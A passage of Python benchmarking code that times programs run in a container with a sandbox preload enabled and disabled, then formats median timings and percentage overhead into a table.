                "preload": SANDBOX_PRELOAD,
                "binary": target.binary,
                "args": list(case.args),
                "uid": PROGRAM_UID,
                "repeat": repeat,
            }
            timing = on.container.exec_run(["python3", "-c", EXEC_TIMING, json.dumps(params)])
            bare = json.loads(timing.output.decode().splitlines()[-1])
        trip = {key: statistics.median(values) for key, values in times.items()}
        label = f"{name} {' '.join(case.args)}"
        lines.append(
            f"{label:<12} {trip['on']:>11.2f} ms {trip['off']:>6.2f} ms {_change(trip):>7}  "
            f"{bare['on']:>6.2f} ms {bare['off']:>6.2f} ms {_change(bare):>7}"
        )
    return "\n".join(lines)


def _change(medians: dict[str, float]) -> str:
    return f"{(medians['on'] / medians['off'] - 1) * 100:+.1f}%"
